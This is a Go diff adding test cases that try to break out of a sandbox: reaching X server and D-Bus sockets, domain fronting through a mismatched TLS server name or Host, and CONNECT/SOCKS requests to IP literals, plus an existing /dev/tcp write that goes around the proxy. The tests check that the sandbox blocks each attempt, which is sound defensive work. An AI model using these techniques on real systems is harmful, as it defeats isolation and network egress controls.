@@ -72,6 +72,34 @@ func localNetCases() []escCase {
 			},
 			script: `CORDON_IT_ESCAPE=unix "$HELPER" "$DGRAM" "$TOKEN"; logger -u "$DGRAM" "$TOKEN"; true`,
 			breach: sinkBreach(sock)},
+		{cat: catNet, name: "the X server",
+			setup: func(e *escEnv) {
+				// An X server listens on /tmp/.X11-unix/XN and, on Linux,
+				// on the abstract @/tmp/.X11-unix/XN.
+				n := 900 + int(e.token[len(e.token)-1])%99
+				listenUnix(e, fmt.Sprintf("@/tmp/.X11-unix/X%d-%s", n, e.token), "unix")
+				p := filepath.Join(e.sockDir(), fmt.Sprintf("X%d", n))
+				listenUnix(e, p, "unix")
+				e.set("DISPLAY", fmt.Sprintf(":%d", n))
+				e.set("XSOCK", p)
+				e.set("XABSTRACT", fmt.Sprintf("@/tmp/.X11-unix/X%d-%s", n, e.token))
+			},
+			script: `CORDON_IT_ESCAPE=unix "$HELPER" "$XSOCK" "$TOKEN"; CORDON_IT_ESCAPE=unix "$HELPER" "$XABSTRACT" "$TOKEN"; sleep 0.2`,
+			breach: sinkBreach("the X server's socket")},
+		{cat: catNet, name: "the D-Bus session and system buses",
+			setup: func(e *escEnv) {
+				d := e.sockDir()
+				for _, name := range []string{"bus", "system_bus_socket"} {
+					listenUnix(e, filepath.Join(d, name), "unix")
+				}
+				listenUnix(e, "@dbus-"+e.token, "unix")
+				e.set("DBUS_SESSION_BUS_ADDRESS", "unix:path="+filepath.Join(d, "bus"))
+				e.set("BUSDIR", d)
+			},
+			script: `bus=${DBUS_SESSION_BUS_ADDRESS#unix:path=}; [ -n "$bus" ] || bus="$BUSDIR/bus"
+for s in "$bus" "$BUSDIR/system_bus_socket" "@dbus-$TOKEN"; do CORDON_IT_ESCAPE=unix "$HELPER" "$s" "$TOKEN"; done
+command -v dbus-send >/dev/null && dbus-send --bus="unix:path=$BUSDIR/bus" --dest=org.freedesktop.DBus / org.freedesktop.DBus.Hello; sleep 0.2; true`,
+			breach: sinkBreach("the D-Bus socket")},
 		{cat: catNet, name: "the ssh agent", tools: []string{"ssh-add"},
 			setup: func(e *escEnv) {
 				p := filepath.Join(e.sockDir(), "agent.sock")
@@ -123,6 +151,19 @@ func netEscapeCases(f *netFixture) []escCase {
 		e.set("OWN", strconv.Itoa(f.trapPort["own"]))
 	}
 	const c = "curl -sS --max-time 5 "
+	// fronted: a request reached the server for a site other than the
+	// allowed one (by its TLS server name or its Host).
+	fronted := func(e *escEnv, r result) []string {
+		time.Sleep(100 * time.Millisecond)
+		var out []string
+		for _, s := range f.seen(e.t, e.token) {
+			host := strings.TrimSuffix(s.Host, ":80")
+			if !strings.EqualFold(host, "allowed.cordon-test") || s.SNI != "" && !strings.EqualFold(s.SNI, "allowed.cordon-test") {
+				out = append(out, fmt.Sprintf("the server received a request for %q (server name %q): %+v", s.Host, s.SNI, s))
+			}
+		}
+		return out
+	}
 	return []escCase{
 		{cat: catNet, name: "direct TCP around the proxy", tools: []string{"bash", "curl"},
 			script: `bash -c 'echo "$TOKEN-tcp" > /dev/tcp/` + netServerAddr + `/81'
@@ -158,6 +199,22 @@ func netEscapeCases(f *netFixture) []escCase {
 				}
 				return out
 			}},
+		{cat: catNet, name: "a TLS server name other than the CONNECT target (domain fronting)", tools: []string{"curl"},
+			// The test network's server is every name's "CDN": it records
+			// the server name and Host each request carried.
+			script: `CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:443 unlisted.cordon-test unlisted.cordon-test /$TOKEN-sni
+CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:443 denied.cordon-test allowed.cordon-test /$TOKEN-sni2
+` + c + `-k --connect-to unlisted.cordon-test:443:allowed.cordon-test:443 https://unlisted.cordon-test/$TOKEN-curl; true`,
+			breach: fronted},
+		{cat: catNet, name: "a plain HTTP Host other than the CONNECT target",
+			script: `CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:80 - unlisted.cordon-test /$TOKEN-plain
+CORDON_IT_ESCAPE=front "$HELPER" allowed.cordon-test:80 - unlisted.cordon-test:80 /$TOKEN-plain2; true`,
+			breach: fronted},
+		{cat: catNet, name: "CONNECT and SOCKS to IP literals", tools: []string{"curl"},
+			script: c + `-k -p https://` + netServerAddr + `/$TOKEN-connect; ` + c + `-p http://` + netServerAddr + `/$TOKEN-connect80
+` + c + `-k -p -g "https://[::ffff:` + netServerAddr + `]/$TOKEN-connect-mapped"; ` + c + `--socks5 127.0.0.1:1080 -k https://` + netServerAddr + `/$TOKEN-socks
+CORDON_IT_ESCAPE=front "$HELPER" ` + netServerAddr + `:443 allowed.cordon-test allowed.cordon-test /$TOKEN-front; true`,
+			breach: reached},
 		{cat: catNet, name: "an allowed name that resolves to the host's loopback", tools: []string{"curl"},
 			setup: func(e *escEnv) {
 				ports(e)
